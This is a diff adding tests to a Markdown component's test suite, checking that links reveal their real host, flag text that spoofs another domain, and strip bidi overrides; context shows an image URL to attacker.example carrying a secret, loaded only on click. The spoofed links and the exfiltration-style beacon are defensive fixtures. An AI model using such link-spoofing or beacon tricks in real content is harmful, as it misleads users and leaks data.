@@ -116,6 +116,25 @@ describe('Markdown', () => {
     expect(bare!.getAttribute('rel')).toBe('noopener noreferrer');
   });
 
+  it('shows the host a link really opens: `//`, `\\\\` and `/\\` forms name a host, resolved as the browser does', () => {
+    const { container } = render(<Markdown text={'[a](//evil.example/landing) [b](\\\\evil.example/x) [c](/\\evil.example/y) [d](/docs/page)'} />);
+    const links = [...container.querySelectorAll('a')];
+    expect(links.map((link) => link.getAttribute('href'))).toEqual(['https://evil.example/landing', 'https://evil.example/x', 'https://evil.example/y', '/docs/page']);
+    expect(links.map((link) => link.querySelector('.acu-markdown__host')?.textContent ?? null)).toEqual(['(evil.example)', '(evil.example)', '(evil.example)', null]);
+  });
+
+  it('marks a link whose text reads as a URL of another host, and keeps bidi controls from reordering the host label', () => {
+    const { container } = render(<Markdown text={'[https://bank.example/login](//evil.example/landing) [bank.example](https://bank.example/x) [\u202emoc.knab](https://evil.example/)'} />);
+    const [spoof, honest, reversed] = [...container.querySelectorAll('a')];
+    expect(spoof!.dataset.kind).toBe('mismatch');
+    expect(spoof!.textContent).toBe('https://bank.example/login (⚠ evil.example)');
+    expect(honest!.dataset.kind).toBeUndefined();
+    expect(honest!.textContent).toBe('bank.example (bank.example)');
+    // The override is gone from the text, and the label is isolated from it in a <bdi>.
+    expect(reversed!.textContent).toBe('moc.knab (⚠ evil.example)');
+    expect(reversed!.querySelector('.acu-markdown__host')!.tagName).toBe('BDI');
+  });
+
   it('loads an image from another origin only after a click, unless its origin is allowed; data: and same-origin load', () => {
     const text = '![secret](https://attacker.example/collect?secret=1) ![ok](https://cdn.example.com/a.png) ![inline](data:image/png;base64,AAAA) ![local](/logo.png)';
     const blocked = render(<Markdown text={text} />);
